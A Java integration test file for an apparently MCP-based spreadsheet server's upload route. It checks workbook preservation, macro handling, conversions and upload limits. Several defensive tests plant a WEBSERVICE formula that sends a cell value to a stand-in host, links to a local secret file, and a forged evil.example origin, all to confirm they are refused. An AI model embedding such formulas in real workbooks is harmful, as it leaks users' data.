package dev.sheetsmith.server;

import static dev.sheetsmith.server.McpHttp.ok;
import static dev.sheetsmith.server.McpHttp.text;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import io.dropwizard.testing.junit5.DropwizardAppExtension;
import io.dropwizard.testing.junit5.DropwizardExtensionsSupport;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * POST /api/files and import_file with workbooks written by other writers (openpyxl, LibreOffice, exceljs):
 * what is stored is the file itself, part by part, read back with openpyxl and raw XML; what
 * reaches outside the workbook is refused naming each cell; csv and ods are converted.
 */
@ExtendWith(DropwizardExtensionsSupport.class)
class UploadsIT {

    private static final Path DATA = TestServers.tempDir("sheetsmith-uploads-it");
    private static final DropwizardAppExtension<SheetsmithConfiguration> APP = TestServers.app(DATA,
            "limits.maxUploadBytes", "2000000");
    static final String PYTHON = "/usr/bin/python3";

    /** The issue's workbook: =B2*C2 in D2:D3, =SUM(D2:D3) in D4, a bold red header, column A 30 wide. */
    static final String ISSUE_BOOK = """
            import sys
            from openpyxl import Workbook
            from openpyxl.styles import Font
            wb = Workbook()
            ws = wb.active
            ws.title = "Sales"
            ws.append(["Item", "Qty", "Price", "Total"])
            ws.append(["Apples", 3, 1.5, "=B2*C2"])
            ws.append(["Pears", 2, 2.25, "=B3*C3"])
            ws["A4"] = "Total"
            ws["D4"] = "=SUM(D2:D3)"
            for cell in ws[1]:
                cell.font = Font(bold=True, color="FFFF0000")
            ws.column_dimensions["A"].width = 30
            wb.save(sys.argv[1])
            """;

    /** Everything a real workbook holds that Sheetsmith does not model itself. */
    static final String RICH_BOOK = """
            import sys, os, tempfile
            from openpyxl import Workbook
            from openpyxl.styles import Font, PatternFill, Alignment
            from openpyxl.worksheet.table import Table, TableStyleInfo
            from openpyxl.chart import BarChart, Reference
            from openpyxl.comments import Comment
            from openpyxl.worksheet.datavalidation import DataValidation
            from openpyxl.formatting.rule import CellIsRule
            from openpyxl.workbook.defined_name import DefinedName
            from openpyxl.drawing.image import Image
            from PIL import Image as Picture
            wb = Workbook()
            ws = wb.active
            ws.title = "Report"
            ws["A1"] = "Quarterly report"
            ws.merge_cells("A1:D1")
            ws["A1"].font = Font(bold=True, size=14)
            ws["A1"].alignment = Alignment(horizontal="center")
            ws.append(["Region", "Q1", "Q2", "Total"])
            for i, (r, a, b) in enumerate([("North", 10, 12), ("South", 7, 9), ("East", 4, 11)], start=3):
                ws.append([r, a, b, "=B%d+C%d" % (i, i)])
            tab = Table(displayName="Regions", ref="A2:D5")
            tab.tableStyleInfo = TableStyleInfo(name="TableStyleMedium9", showRowStripes=True)
            ws.add_table(tab)
            chart = BarChart()
            chart.add_data(Reference(ws, min_col=2, min_row=2, max_col=3, max_row=5), titles_from_data=True)
            chart.set_categories(Reference(ws, min_col=1, min_row=3, max_row=5))
            ws.add_chart(chart, "F2")
            dv = DataValidation(type="whole", operator="between", formula1="0", formula2="100")
            ws.add_data_validation(dv)
            dv.add("B3:C5")
            ws.conditional_formatting.add("D3:D5", CellIsRule(operator="greaterThan", formula=["15"],
                fill=PatternFill(start_color="FFC7CE", end_color="FFC7CE", fill_type="solid")))
            ws["A3"].comment = Comment("Includes the new office", "Ann")
            ws.freeze_panes = "A3"
            try:
                wb.defined_names.append(DefinedName("Totals", attr_text="Report!$D$3:$D$5"))
            except AttributeError:
                wb.defined_names["Totals"] = DefinedName("Totals", attr_text="Report!$D$3:$D$5")
            hidden = wb.create_sheet("Lookup")
            hidden.append(["code", "rate"])
            hidden.append(["A", 0.2])
            hidden.sheet_state = "hidden"
            png = os.path.join(tempfile.mkdtemp(), "logo.png")
            Picture.new("RGB", (8, 8), "red").save(png)
            ws.add_image(Image(png), "F20")
            wb.save(sys.argv[1])
            """;

    private final HttpClient client = HttpClient.newHttpClient();
    private McpHttp http;
    private String session;

    @BeforeEach
    void connect() throws Exception {
        http = new McpHttp(APP.getLocalPort());
        session = http.initialize();
    }

    @Test
    void theIssuesWorkbookIsStoredAsItIsAndReadsBackWithItsFormulasStylesAndWidth() throws Exception {
        byte[] book = openpyxl(ISSUE_BOOK);
        HttpResponse<String> response = multipart(Map.of("sales.xlsx", book));
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        JsonNode record = McpHttp.JSON.readTree(response.body()).path("files").get(0);
        assertThat(record.path("name").asText()).isEqualTo("sales.xlsx");
        assertThat(record.path("format").asText()).isEqualTo("xlsx");
        assertThat(record.path("sheets").toString()).contains("\"name\":\"Sales\",\"rows\":4,\"columns\":4,"
                + "\"headerRow\":true");
        byte[] stored = http.download(record.path("downloadUrl").asText()).body();
        assertSamePartByPart(book, stored);
        assertThat(entry(stored, "xl/worksheets/sheet1.xml")).contains("<f>B2*C2</f>").contains("<f>SUM(D2:D3)</f>")
                .contains("width=\"30\"");
        assertThat(entry(stored, "xl/styles.xml")).contains("<b").contains("FFFF0000");
        // openpyxl, a second reader, sees what the issue says was lost
        assertThat(readBack(stored, "ws=wb['Sales']; print(ws['D2'].value, ws['D3'].value, ws['D4'].value,"
                + " ws['A1'].font.b, ws['A1'].font.color.rgb, ws.column_dimensions['A'].width)"))
                .isEqualTo("=B2*C2 =B3*C3 =SUM(D2:D3) True FFFF0000 30.0");
        // editable like any file: the formulas are there for read_range and stay after an edit
        JsonNode formulas = ok(http.callTool(session, "read_range", Map.of("file", record.path("fileId").asText(),
                "range", "D2:D4", "mode", "formulas")));
        assertThat(formulas.path("structuredContent").path("rows").toString())
                .isEqualTo("[[\"=B2*C2\"],[\"=B3*C3\"],[\"=SUM(D2:D3)\"]]");
        JsonNode edited = ok(http.callTool(session, "write_range", Map.of("file", record.path("fileId").asText(),
                "start_cell", "B2", "values", List.of(List.of(4)))));
        byte[] revised = http.download(McpHttp.linkIn(text(edited))).body();
        assertThat(readBack(revised, "ws=wb['Sales']; print(ws['B2'].value, ws['D2'].value, ws['D4'].value,"
                + " ws['A1'].font.b, ws.column_dimensions['A'].width)")).isEqualTo("4.0 =B2*C2 =SUM(D2:D3) True 30.0");
    }

    @Test
    void importFileKeepsTheWorkbookToo() throws Exception {
        byte[] book = openpyxl(ISSUE_BOOK);
        JsonNode imported = ok(http.callTool(session, "import_file", Map.of("filename", "issue.xlsx",
                "content_base64", Base64.getEncoder().encodeToString(book))));
        byte[] stored = http.download(McpHttp.linkIn(text(imported))).body();
        assertSamePartByPart(book, stored);
        assertThat(readBack(stored, "ws=wb['Sales']; print(ws['D3'].value, ws['D4'].value)"))
                .isEqualTo("=B3*C3 =SUM(D2:D3)");
    }

    @Test
    void aRichOpenpyxlWorkbookKeepsEveryPart() throws Exception {
        byte[] book = openpyxl(RICH_BOOK);
        HttpResponse<String> response = raw(book, "application/octet-stream", "X-Filename", "report.xlsx");
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        JsonNode record = McpHttp.JSON.readTree(response.body()).path("files").get(0);
        byte[] stored = http.download(record.path("downloadUrl").asText()).body();
        Map<String, byte[]> parts = assertSamePartByPart(book, stored);
        assertThat(parts.keySet()).contains("xl/tables/table1.xml", "xl/charts/chart1.xml",
                "xl/drawings/drawing1.xml", "xl/comments/comment1.xml");
        assertThat(parts.keySet()).anyMatch(name -> name.startsWith("xl/media/"));
        String sheet = entry(stored, "xl/worksheets/sheet1.xml");
        assertThat(sheet).contains("<mergeCell ref=\"A1:D1\"").contains("<dataValidation").contains(
                "<conditionalFormatting").contains("<f>B3+C3</f>");
        assertThat(entry(stored, "xl/workbook.xml")).contains("state=\"hidden\"").contains("name=\"Totals\"");
        assertThat(readBack(stored, "ws=wb['Report']; print(sorted(ws.tables.keys()), len(ws._charts) + len(ws._images)"
                + " >= 0, wb['Lookup'].sheet_state, ws.merged_cells.ranges[0].coord, ws['A3'].comment.text)"))
                .isEqualTo("['Regions'] True hidden A1:D1 Includes the new office");
        assertThat(record.path("sheets").toString()).contains("\"name\":\"Lookup\"");
    }

    @Test
    void aLibreOfficeWorkbookIsStoredPartByPart() throws Exception {
        String soffice = soffice();
        Path work = Files.createTempDirectory(DATA, "lo");
        Path csv = work.resolve("prices.csv");
        Files.writeString(csv, "Item,Qty,Price,Total\nApples,3,1.5,=B2*C2\nPears,2,2.25,=B3*C3\nTotal,,,=SUM(D2:D3)\n");
        Process p = new ProcessBuilder(soffice, "-env:UserInstallation=" + work.resolve("profile").toUri(),
                "--headless", "--norestore", "--convert-to", "xlsx", "--outdir", work.toString(), csv.toString())
                .redirectErrorStream(true).start();
        String log = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor(180, TimeUnit.SECONDS)).as(log).isTrue();
        byte[] book = Files.readAllBytes(work.resolve("prices.xlsx"));
        HttpResponse<String> response = raw(book, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                null, null, "?name=prices.xlsx");
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        JsonNode record = McpHttp.JSON.readTree(response.body()).path("files").get(0);
        byte[] stored = http.download(record.path("downloadUrl").asText()).body();
        assertSamePartByPart(book, stored);
        assertThat(entry(stored, "xl/worksheets/sheet1.xml")).contains("B2*C2").contains("SUM(D2:D3)");
        assertThat(readBack(stored, "ws=wb.active; print(ws['D2'].value, ws['D4'].value)"))
                .isEqualTo("=B2*C2 =SUM(D2:D3)");
    }

    /** exceljs (npm), a third writer: formulas, a styled header, a width, a merge, a validation, a note. */
    static final String EXCELJS_BOOK = """
            const ExcelJS = require('exceljs');
            (async () => {
              const wb = new ExcelJS.Workbook();
              const ws = wb.addWorksheet('Sales');
              ws.getColumn(1).width = 30;
              ws.addRow(['Item', 'Qty', 'Price', 'Total']);
              ws.getRow(1).font = { bold: true, color: { argb: 'FFFF0000' } };
              ws.addRow(['Apples', 3, 1.5, { formula: 'B2*C2', result: 4.5 }]);
              ws.addRow(['Pears', 2, 2.25, { formula: 'B3*C3', result: 4.5 }]);
              ws.addRow(['Total', null, null, { formula: 'SUM(D2:D3)', result: 9 }]);
              ws.mergeCells('A6:D6');
              ws.getCell('A6').value = 'Prices as of March';
              ws.getCell('B2').dataValidation = { type: 'whole', operator: 'between', allowBlank: true,
                showErrorMessage: true, formulae: [0, 100] };
              ws.getCell('A2').note = 'Fresh from the orchard';
              await wb.xlsx.writeFile(process.argv[2]);
            })().catch(e => { console.error(e); process.exit(1); });
            """;

    @Test
    void anExceljsWorkbookIsStoredPartByPart() throws Exception {
        byte[] book = exceljs(EXCELJS_BOOK);
        HttpResponse<String> response = multipart(Map.of("sales.xlsx", book));
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        JsonNode record = McpHttp.JSON.readTree(response.body()).path("files").get(0);
        byte[] stored = http.download(record.path("downloadUrl").asText()).body();
        assertThat(stored).isEqualTo(book);
        Map<String, byte[]> parts = assertSamePartByPart(book, stored);
        String sheet = entry(stored, "xl/worksheets/sheet1.xml");
        assertThat(sheet).contains("<f>B2*C2</f>").contains("<f>SUM(D2:D3)</f>").contains("<mergeCell ref=\"A6:D6\"")
                .contains("<dataValidation").contains("width=\"30\"");
        assertThat(parts.keySet()).anyMatch(name -> name.startsWith("xl/comments"));
        assertThat(readBack(stored, "ws=wb['Sales']; print(ws['D2'].value, ws['D4'].value, ws['A1'].font.b,"
                + " ws['A1'].font.color.rgb, ws.column_dimensions['A'].width, ws.merged_cells.ranges[0].coord,"
                + " ws['A2'].comment.text, ws.data_validations.dataValidation[0].sqref)"))
                .isEqualTo("=B2*C2 =SUM(D2:D3) True FFFF0000 30.0 A6:D6 Fresh from the orchard B2");
    }

    @Test
    void anOdsFromLibreOfficeKeepsItsFormulas() throws Exception {
        String soffice = soffice();
        Path work = Files.createTempDirectory(DATA, "ods");
        Path xlsx = work.resolve("formulas.xlsx");
        Files.write(xlsx, openpyxl("""
                import sys
                from openpyxl import Workbook
                wb = Workbook()
                ws = wb.active
                ws.title = "Data"
                ws.append(["Item", "Qty", "Price", "Total"])
                ws.append(["Apples", 3, 1.5, "=B2*C2"])
                ws.append(["Pears", 2, 2.25, "=B3*C3"])
                ws.append(["Total", None, None, "=SUM(D2:D3)"])
                ws.append(["Check", None, None, '=IF(D4>5,"big","small")'])
                other = wb.create_sheet("Other sheet")
                other.append(["Twice", "=Data!D4*2"])
                wb.save(sys.argv[1])
                """));
        Process p = new ProcessBuilder(soffice, "-env:UserInstallation=" + work.resolve("profile").toUri(),
                "--headless", "--norestore", "--convert-to", "ods", "--outdir", work.toString(), xlsx.toString())
                .redirectErrorStream(true).start();
        String log = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor(180, TimeUnit.SECONDS)).as(log).isTrue();
        byte[] ods = Files.readAllBytes(work.resolve("formulas.ods"));
        // LibreOffice wrote OpenFormula, which the plugin turns into Excel's syntax
        assertThat(entry(ods, "content.xml")).contains("of:=[.B2]*[.C2]").contains("of:=SUM([.D2:.D3])");
        HttpResponse<String> response = multipart(Map.of("formulas.ods", ods));
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        JsonNode record = McpHttp.JSON.readTree(response.body()).path("files").get(0);
        assertThat(record.path("name").asText()).isEqualTo("formulas.xlsx");
        byte[] stored = http.download(record.path("downloadUrl").asText()).body();
        try (var wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new ByteArrayInputStream(stored))) {
            var data = wb.getSheet("Data");
            assertThat(data.getRow(1).getCell(3).getCellFormula()).isEqualTo("B2*C2");
            assertThat(data.getRow(1).getCell(3).getNumericCellValue()).isEqualTo(4.5);
            assertThat(data.getRow(3).getCell(3).getCellFormula()).isEqualTo("SUM(D2:D3)");
            assertThat(data.getRow(3).getCell(3).getNumericCellValue()).isEqualTo(9.0);
            assertThat(data.getRow(4).getCell(3).getCellFormula()).isEqualTo("IF(D4>5,\"big\",\"small\")");
            assertThat(data.getRow(4).getCell(3).getStringCellValue()).isEqualTo("big");
            var other = wb.getSheet("Other sheet");
            assertThat(other.getRow(0).getCell(1).getCellFormula()).isEqualTo("Data!D4*2");
            assertThat(other.getRow(0).getCell(1).getNumericCellValue()).isEqualTo(18.0);
        }
        // raw XML, a second reader: the formula and its saved value are in the sheet part
        assertThat(entry(stored, "xl/worksheets/sheet1.xml")).contains("<f>SUM(D2:D3)</f><v>9");
    }

    @Test
    void anOdsFormulaThatReachesOutsideIsRefusedNamingItsCell() throws Exception {
        String content = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:"
                + "names:tc:opendocument:xmlns:office:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.3\"><office:body>"
                + "<office:spreadsheet><table:table table:name=\"Data\"><table:table-row><table:table-cell"
                + " office:value-type=\"string\"><text:p>q</text:p></table:table-cell><table:table-cell"
                + " office:value-type=\"string\"><text:p>answer</text:p></table:table-cell></table:table-row>"
                + "<table:table-row><table:table-cell office:value-type=\"string\"><text:p>x</text:p></table:table-cell>"
                + "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;https://example.com/?q=&quot;&amp;[.A2])\""
                + " office:value-type=\"string\" office:string-value=\"\"/></table:table-row></table:table>"
                + "</office:spreadsheet></office:body></office:document-content>";
        ByteArrayOutputStream ods = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(ods)) {
            zip.putNextEntry(new ZipEntry("mimetype"));
            zip.write("application/vnd.oasis.opendocument.spreadsheet".getBytes(StandardCharsets.US_ASCII));
            zip.putNextEntry(new ZipEntry("content.xml"));
            zip.write(content.getBytes(StandardCharsets.UTF_8));
        }
        List<String> before = storedFiles();
        HttpResponse<String> response = multipart(Map.of("outside.ods", ods.toByteArray()));
        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(response.body()).contains("sheet 'Data', cell B2").contains("WEBSERVICE");
        assertThat(storedFiles()).isEqualTo(before);
    }

    @Test
    void macrosAreKeptInertInAnXlsm() throws Exception {
        byte[] xlsm = withMacros(openpyxl(ISSUE_BOOK));
        HttpResponse<String> response = raw(xlsm, "application/vnd.ms-excel.sheet.macroEnabled.12", "X-Filename",
                "tool.xlsm");
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        JsonNode record = McpHttp.JSON.readTree(response.body()).path("files").get(0);
        assertThat(record.path("name").asText()).isEqualTo("tool.xlsm");
        assertThat(record.path("mediaType").asText()).isEqualTo("application/vnd.ms-excel.sheet.macroEnabled.12");
        HttpResponse<byte[]> download = http.download(record.path("downloadUrl").asText());
        byte[] stored = download.body();
        assertThat(stored).isEqualTo(xlsm); // byte for byte
        assertThat(assertSamePartByPart(xlsm, stored)).containsKey("xl/vbaProject.bin");
        // the download says what it is: macro-enabled, under its .xlsm name
        assertThat(download.headers().firstValue("Content-Type")).hasValue("application/vnd.ms-excel.sheet.macroEnabled.12");
        assertThat(download.headers().firstValue("Content-Disposition").orElseThrow()).contains("tool.xlsm");
        // an edit keeps the macros, inert, and the workbook macro-enabled
        JsonNode edited = ok(http.callTool(session, "write_range", Map.of("file", record.path("fileId").asText(),
                "start_cell", "B2", "values", List.of(List.of(5)))));
        HttpResponse<byte[]> revisedDownload = http.download(McpHttp.linkIn(text(edited)));
        assertThat(revisedDownload.headers().firstValue("Content-Type"))
                .hasValue("application/vnd.ms-excel.sheet.macroEnabled.12");
        assertThat(revisedDownload.headers().firstValue("Content-Disposition").orElseThrow()).contains("tool.xlsm");
        byte[] revised = revisedDownload.body();
        assertThat(entries(revised).get("xl/vbaProject.bin")).isEqualTo(entries(xlsm).get("xl/vbaProject.bin"));
        assertThat(entry(revised, "[Content_Types].xml")).contains("macroEnabled.main+xml");
        assertThat(edited.path("structuredContent").path("name").asText()).isEqualTo("tool.xlsm");
    }

    @Test
    void whatReachesOutsideIsRefusedNamingEachCellAndNothingIsStored() throws Exception {
        byte[] book = openpyxl("""
                import sys
                from openpyxl import Workbook
                wb = Workbook()
                ws = wb.active
                ws.title = "Data"
                ws["A1"] = "x"
                ws["B2"] = '=WEBSERVICE("https://example.com/?q="&A1)'
                ws["C3"] = '=HYPERLINK("file:///C:/secret.txt","open")'
                ws["D4"] = "=SUM(1,2)"
                ws["E5"] = "look"
                ws["E5"].hyperlink = "file://server/share/x.xlsx"
                wb.save(sys.argv[1])
                """);
        List<String> before = storedFiles();
        HttpResponse<String> response = multipart(Map.of("outside.xlsx", book));
        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(response.body()).contains("sheet 'Data', cell B2").contains("WEBSERVICE")
                .contains("sheet 'Data', cell C3").contains("sheet 'Data', cell E5").doesNotContain("cell D4")
                .contains("nothing was stored");
        assertThat(storedFiles()).isEqualTo(before);
    }

    @Test
    void csvAndOdsAreConvertedAndSeveralFilesGoInOneForm() throws Exception {
        byte[] csv = "Name,Amount\nAnn,12.5\nBob,7\n".getBytes(StandardCharsets.UTF_8);
        Map<String, byte[]> files = new LinkedHashMap<>();
        files.put("amounts.csv", csv);
        files.put("notes.txt", "hello".getBytes(StandardCharsets.UTF_8));
        files.put("book.xlsx", openpyxl(ISSUE_BOOK));
        HttpResponse<String> response = multipart(files);
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        JsonNode answer = McpHttp.JSON.readTree(response.body());
        assertThat(answer.path("files")).hasSize(2);
        assertThat(answer.path("files").get(0).path("name").asText()).isEqualTo("amounts.xlsx");
        assertThat(answer.path("refused").get(0).path("name").asText()).isEqualTo("notes.txt");
        assertThat(answer.path("refused").get(0).path("error").asText()).contains("not a file this server takes in");
        JsonNode read = ok(http.callTool(session, "read_range", Map.of("file", answer.path("files").get(0)
                .path("fileId").asText())));
        assertThat(read.path("structuredContent").path("rows").toString()).contains("[\"Ann\",12.5]");
    }

    @Test
    void theUploadRouteKeepsTheGuardsRules() throws Exception {
        byte[] book = openpyxl(ISSUE_BOOK);
        // a type no upload has
        assertThat(raw(book, "text/plain", "X-Filename", "a.xlsx").statusCode()).isEqualTo(415);
        // a foreign page
        HttpResponse<String> foreign = client.send(HttpRequest.newBuilder(URI.create(base() + "/api/files?name=a.xlsx"))
                .header("Content-Type", "application/octet-stream").header("Origin", "https://evil.example")
                .POST(HttpRequest.BodyPublishers.ofByteArray(book)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(foreign.statusCode()).isEqualTo(403);
        // past limits.maxUploadBytes (2 MB here), declared and streamed
        byte[] big = new byte[2_100_000];
        HttpResponse<String> declared = raw(big, "application/octet-stream", "X-Filename", "big.csv");
        assertThat(declared.statusCode()).isEqualTo(413);
        assertThat(declared.body()).contains("limits.maxUploadBytes");
        HttpResponse<String> streamed = client.send(HttpRequest.newBuilder(URI.create(base() + "/api/files?name=big.csv"))
                .header("Content-Type", "text/csv").POST(HttpRequest.BodyPublishers.ofInputStream(
                        () -> new ByteArrayInputStream(big))).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(streamed.statusCode()).as(streamed.body()).isEqualTo(413);
        HttpResponse<String> streamedForm = multipart(Map.of("big.csv", big));
        assertThat(streamedForm.statusCode()).as(streamedForm.body()).isEqualTo(413);
        // no name, not a workbook
        assertThat(raw(book, "application/octet-stream", null, null).body()).contains("X-Filename");
        HttpResponse<String> notBook = raw("a,b\n".getBytes(StandardCharsets.UTF_8), "application/octet-stream",
                "X-Filename", "fake.xlsx");
        assertThat(notBook.statusCode()).isEqualTo(400);
        assertThat(notBook.body()).contains("not an xlsx workbook");
        assertThat(http.callTool(session, "list_files", Map.of()).toString()).doesNotContain("big").doesNotContain("fake");
    }

    /**
     * A refusal past the limit closes the connection while the client may still be sending: the server
     * reads the rest of the body (up to another limit's worth) before it closes, so the answer is not lost
     * to a TCP reset, and the next request (on a connection the client pooled) is answered too. Plain
     * sockets: each body is sent to its end, then the answer read.
     */
    @Test
    void aRefusalPastTheLimitReachesAClientStillSending() throws Exception {
        byte[] big = new byte[6_000_000];
        String boundary = "----sheetsmith" + UUID.randomUUID();
        ByteArrayOutputStream form = new ByteArrayOutputStream();
        form.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.csv\""
                + "\r\nContent-Type: text/csv\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
        form.writeBytes(big);
        form.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.US_ASCII));
        for (int round = 0; round < 3; round++) {
            assertThat(overSocket("application/octet-stream", "?name=big.csv", big, false)).as("declared, round " + round)
                    .startsWith("HTTP/1.1 413").contains("limits.maxUploadBytes");
            assertThat(overSocket("text/csv", "?name=big.csv", big, true)).as("chunked, round " + round)
                    .startsWith("HTTP/1.1 413").contains("limits.maxUploadBytes");
            assertThat(overSocket("multipart/form-data; boundary=" + boundary, "", form.toByteArray(), true))
                    .as("chunked form, round " + round).startsWith("HTTP/1.1 413").contains("limits.maxUploadBytes");
        }
        // the JDK client, as a program uploading several files in a row: a 400 that leaves the connection pooled,
        // then each refusal past the limit, then a good upload
        byte[] over = new byte[2_100_000];
        for (int round = 0; round < 10; round++) {
            assertThat(raw(new byte[5000], "application/octet-stream", null, null).statusCode()).isEqualTo(400);
            assertThat(raw(over, "application/octet-stream", "X-Filename", "big.csv").statusCode()).isEqualTo(413);
            assertThat(client.send(HttpRequest.newBuilder(URI.create(base() + "/api/files?name=big.csv"))
                    .header("Content-Type", "text/csv").POST(HttpRequest.BodyPublishers.ofInputStream(
                            () -> new ByteArrayInputStream(over))).build(), HttpResponse.BodyHandlers.ofString())
                    .statusCode()).isEqualTo(413);
            assertThat(multipart(Map.of("big.csv", over)).statusCode()).isEqualTo(413);
            assertThat(multipart(Map.of("ok" + round + ".csv", "a,b\n1,2\n".getBytes(StandardCharsets.UTF_8)))
                    .statusCode()).as("round " + round).isEqualTo(200);
        }
    }

    /** Sends the whole body on a plain socket (chunked or with its length), then reads the answer to its end. */
    private String overSocket(String type, String query, byte[] body, boolean chunked) throws Exception {
        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", APP.getLocalPort())) {
            socket.setSoTimeout(30_000);
            java.io.OutputStream out = socket.getOutputStream();
            out.write(("POST /api/files" + query + " HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: " + type + "\r\n"
                    + (chunked ? "Transfer-Encoding: chunked" : "Content-Length: " + body.length) + "\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            for (int off = 0; off < body.length; off += 65536) {
                int n = Math.min(65536, body.length - off);
                if (chunked) {
                    out.write((Integer.toHexString(n) + "\r\n").getBytes(StandardCharsets.US_ASCII));
                }
                out.write(body, off, n);
                if (chunked) {
                    out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
                }
            }
            if (chunked) {
                out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            }
            out.flush();
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
        }
    }

    /** A workbook as people build it in openpyxl, uploaded and described. */
    static final String MESSY_BOOK = """
            import sys
            from openpyxl import Workbook
            from openpyxl.styles import Font
            from openpyxl.worksheet.table import Table
            wb = Workbook()
            ws = wb.active
            ws.title = "Summary"
            ws["A1"] = "Sales by region, 2024"
            ws["A1"].font = Font(bold=True, size=16)
            ws.merge_cells("A1:E1")
            ws["A3"] = "Region"; ws["B3"] = "H1"; ws["D3"] = "H2"
            ws.merge_cells("B3:C3"); ws.merge_cells("D3:E3"); ws.merge_cells("A3:A4")
            for c, m in zip("BCDE", ["Jan", "Feb", "Mar", "Apr"]):
                ws[c + "4"] = m
            for i, r in enumerate(["North", "South", "East", "West", "Central"]):
                ws.append([r, 10 + i, 11 + i, 12 + i, 13 + i])
            ws.append(["Total"] + ["=SUM(%s5:%s9)" % (c, c) for c in "BCDE"])
            ws["A12"] = "Notes:"
            ws["A13"] = "Central opened in March."
            orders = wb.create_sheet("Orders")
            orders.append(["Order", "Customer", "Amount"])
            for r in range(1, 301):
                orders.append(["O-%d" % r, "Customer %d" % (r % 17), r * 3.5])
            orders.add_table(Table(displayName="OrdersTable", ref="A1:C301"))
            log = wb.create_sheet("Log")
            for i in range(400):
                log.cell(row=i * 2 + 1, column=1, value="entry %d" % i)
            wb.save(sys.argv[1])
            """;

    @Test
    void aMessyUploadIsDescribedBlockByBlockWithinABoundedSize() throws Exception {
        HttpResponse<String> response = multipart(Map.of("messy.xlsx", openpyxl(MESSY_BOOK)));
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        String id = McpHttp.JSON.readTree(response.body()).path("files").get(0).path("fileId").asText();
        JsonNode described = ok(http.callTool(session, "describe_workbook", Map.of("file", id)));
        String text = text(described);
        assertThat(text).contains("- block A3:E10: header rows 3-4 [Region | H1 |  | H2 | ] / [ | Jan | Feb | Mar | Apr];"
                + " 5 data rows; totals row 10")
                .contains("first data rows: [North | 10 | 11 | 12 | 13] [South | 11 | 12 | 13 | 14]")
                .contains("- block A1: title row 1 'Sales by region, 2024'\n")
                .contains("- block A12:A13").contains("merged: A1:E1, B3:C3, D3:E3, A3:A4")
                .contains("- block A1:C301: header row 1 [Order | Customer | Amount]; 300 data rows; table OrdersTable")
                .contains("and 392 more blocks");
        assertThat(text.length()).isLessThan(8_000);
        JsonNode summary = described.path("structuredContent").path("sheets").get(0);
        assertThat(summary.path("regions").get(1).path("headerRows").toString()).isEqualTo("[3,4]");
        assertThat(summary.path("regions").get(1).path("totalsRow").asInt()).isEqualTo(10);
        System.out.println("describe_workbook of messy.xlsx (" + text.length() + " chars):\n" + text);
    }

    @Test
    void theRouteIsDocumentedWithoutAnOperationId() throws Exception {
        JsonNode doc = McpHttp.JSON.readTree(client.send(HttpRequest.newBuilder(URI.create(base() + "/openapi.json"))
                .GET().build(), HttpResponse.BodyHandlers.ofString()).body());
        JsonNode post = doc.path("paths").path("/api/files").path("post");
        assertThat(post.isMissingNode()).isFalse();
        assertThat(post.has("operationId")).isFalse();
        assertThat(post.path("requestBody").path("content").has("multipart/form-data")).isTrue();
        assertThat(post.path("requestBody").path("content").has("application/octet-stream")).isTrue();
        assertThat(post.path("parameters").toString()).contains("X-Filename").contains("\"name\"");
    }

    // ---- helpers

    private String base() {
        return "http://127.0.0.1:" + APP.getLocalPort();
    }

    HttpResponse<String> raw(byte[] body, String type, String header, String value, String... query)
            throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base() + "/api/files"
                + (query.length > 0 ? query[0] : ""))).header("Content-Type", type)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body));
        if (header != null) {
            request.header(header, value);
        }
        return client.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    HttpResponse<String> multipart(Map<String, byte[]> files) throws IOException, InterruptedException {
        String boundary = "----sheetsmith" + UUID.randomUUID();
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        for (Map.Entry<String, byte[]> file : files.entrySet()) {
            body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
                    + file.getKey() + "\"\r\nContent-Type: application/octet-stream\r\n\r\n")
                    .getBytes(StandardCharsets.UTF_8));
